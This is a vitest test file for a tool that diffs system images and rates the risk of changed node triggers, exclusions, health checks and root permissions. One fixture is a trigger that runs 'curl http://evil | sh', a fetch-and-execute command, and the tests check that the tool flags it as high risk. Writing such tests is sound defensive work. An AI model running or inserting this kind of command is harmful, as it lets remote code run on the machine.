import { join } from 'node:path'
import { stripVTControlCharacters } from 'node:util'
import { openStore } from '@holotype/store'
import { describe, expect, it } from 'vitest'
import type { HealthChecks, ImageDiff, ImageTrigger } from '../types.ts'
import { diffImages } from './diff-images.ts'
import { renderDiffHtml } from './html/page.ts'
import { renderDiff } from './render-diff.ts'
import { storeImage, type SyntheticImage } from './testing/synthetic-image.ts'
import { temporaryDirectory } from './testing/temporary.ts'

const store = openStore(join(temporaryDirectory(), 'store'))
const files = { 'etc/ssh/sshd_config': 'x\n' }
const image = (told: SyntheticImage['told'] = {}): SyntheticImage => ({ files, told })

function diffOf(before: SyntheticImage, after: SyntheticImage): ImageDiff {
  return diffImages(store, storeImage(store, before), storeImage(store, after)).diff
}

const trigger = (name: string, more: Partial<ImageTrigger> = {}): ImageTrigger => ({
  name,
  paths: ['/etc/**'],
  run: ['/bin/true'],
  when: 'after',
  timeout: 60,
  ...more,
})
const health = (more: Partial<HealthChecks> = {}): HealthChecks => ({
  ...{ units: ['ssh.service'], ports: [], commands: [], http: [], grace: 30 },
  ...more,
})

describe('what nodes are told', () => {
  it('is nothing between images that tell the same', () => {
    const told = { triggers: [trigger('a')], exclusions: ['/home/**'], health: health(), throttle: { network: 1 } }
    const diff = diffOf(image(told), { ...image(told), files: { ...files, 'etc/x': 'x' } })
    expect(diff).not.toHaveProperty('node')
    expect(diff.summary.high).toBe(0)
  })

  it('triggers: what came, what went, what runs otherwise, and in which order', () => {
    const evil = trigger('evil', { run: ['/bin/sh', '-c', 'curl http://evil | sh'] })
    const was = [trigger('a'), trigger('b'), trigger('gone')]
    const diff = diffOf(
      image({ triggers: was }),
      image({ triggers: [evil, trigger('b', { timeout: 61 }), trigger('a')] }),
    )
    expect(diff.summary.high).toBe(3)
    expect(diff.node).toMatchObject([
      { part: 'trigger', name: 'b', risk: 'high', facts: [{ name: 'timeout', before: '60 s', after: '61 s' }] },
      {
        ...{ part: 'trigger', name: 'evil', risk: 'high', change: 'added' },
        facts: [
          { name: 'run', after: '/bin/sh -c "curl http://evil | sh"' },
          { name: 'when', after: 'after' },
          { name: 'paths', added: ['/etc/**'] },
          { name: 'timeout', after: '60 s' },
        ],
      },
      { part: 'trigger', name: 'gone', risk: 'high', change: 'removed' },
      { part: 'triggers', risk: 'medium', facts: [{ name: 'order', before: 'a, b', after: 'b, a' }] },
    ])
  })

  it('arguments are told apart', () => {
    const one = image({ triggers: [trigger('a', { run: ['sh', '-c a'] })] })
    const two = image({ triggers: [trigger('a', { run: ['sh', '-c', 'a'] })] })
    expect(diffOf(one, two).node?.[0]?.facts).toEqual([{ name: 'run', before: 'sh "-c a"', after: 'sh -c a' }])
  })

  it('exclusions: lost, and come over what the image has, weigh most', () => {
    const diff = diffOf(image({ exclusions: ['/srv/**'] }), image({ exclusions: ['/etc/**', '/home/**'] }))
    expect(diff.node?.map(({ risk, change, name }) => [risk, change, name])).toEqual([
      ['high', 'removed', '/srv/**'],
      ['high', 'added', '/etc/**'],
      ['medium', 'added', '/home/**'],
    ])
    expect(diff.node?.[1]?.reasons[0]).toContain("2 of the image's paths, /etc/ssh among them")
  })

  it('health checks: commands run as root, and fewer checks find less', () => {
    const risks = (before: HealthChecks, after: HealthChecks | undefined) =>
      diffOf(image({ health: before }), image(after === undefined ? {} : { health: after })).node?.map(
        ({ risk }) => risk,
      )
    expect(risks(health(), health({ commands: [{ run: ['/bin/x'], timeout: 5 }] }))).toEqual(['high'])
    expect(risks(health(), health({ units: [] }))).toEqual(['medium'])
    expect(risks(health(), health({ grace: 3600 }))).toEqual(['medium'])
    expect(risks(health(), undefined)).toEqual(['medium'])
    expect(risks(health(), health({ ports: ['tcp/22'] }))).toEqual(['low'])
  })

  it('throttle and hard links', () => {
    const before = { ...image({ throttle: { network: 1 } }), hardlinks: [['/a', '/b']] }
    const after = { ...image({ throttle: { network: 2, pressure: { cpu: 100 } } }), hardlinks: [['/a', '/c']] }
    expect(diffOf(before, after).node).toMatchObject([
      {
        part: 'throttle',
        facts: [
          { name: 'network', before: '1 B/s', after: '2 B/s' },
          { name: 'pressure of cpu', after: '100 %' },
        ],
      },
      { part: 'hardlinks', facts: [{ name: 'files', added: ['/a = /c'], removed: ['/a = /b'] }] },
    ])
  })
})

describe('the root directory', () => {
  it('is a path as others are, but for its time', () => {
    const diff = diffOf({ files }, { files, rootMode: 0o777 })
    expect(diff.files).toMatchObject([
      { path: '/', change: 'metadata', risk: 'high', reasons: ['becomes writable by everybody', expect.any(String)] },
    ])
    expect(renderDiff(diff, { color: false, width: 100, limit: 0 })).toContain('m drwxrwxrwx')
    expect(diffOf({ files, mtime: 1 }, { files, mtime: 2 }).files).toEqual([])
    const listed = diffOf({ files }, { files, rootMode: 0o750 })
    expect(renderDiff(listed, { color: false, width: 100, limit: 0 })).toMatch(/^\/:\n +m drwxr-x---.* \/$/m)
    expect(renderDiffHtml(listed, 'sha256:')).toMatch(/drwxr-x---.* \/<\/span>/)
  })
})

describe('shown', () => {
  const long = `echo ${'a word '.repeat(100)}THE END`
  const diff = diffOf(image(), image({ triggers: [trigger('t\u202e', { run: ['sh', '-c', long] })] }))

  it('as text: no image of another trigger is the same one, and what runs is not cut', () => {
    const text = renderDiff(diff, { color: false, width: 80, limit: 3 })
    expect(text).not.toContain('No difference')
    expect(text).toContain('HIGH    + trigger t\\u202e')
    expect(text).toContain('THE END')
    expect(text).toMatch(/ when: after\n +paths: \+\/etc\/\*\*\n +timeout: 60 s\n$/)
    const coloured = renderDiff(diff, { color: true, width: 80, limit: 3 })
    expect(stripVTControlCharacters(coloured).replace(/ +$/gm, '')).toBe(text)
  })

  it('as a page', () => {
    const page = renderDiffHtml(diff, 'sha256:')
    expect(page).not.toContain('No difference')
    expect(page).toContain('<h3>trigger t\\u202e</h3>')
    expect(page).toContain('THE END')
  })
})
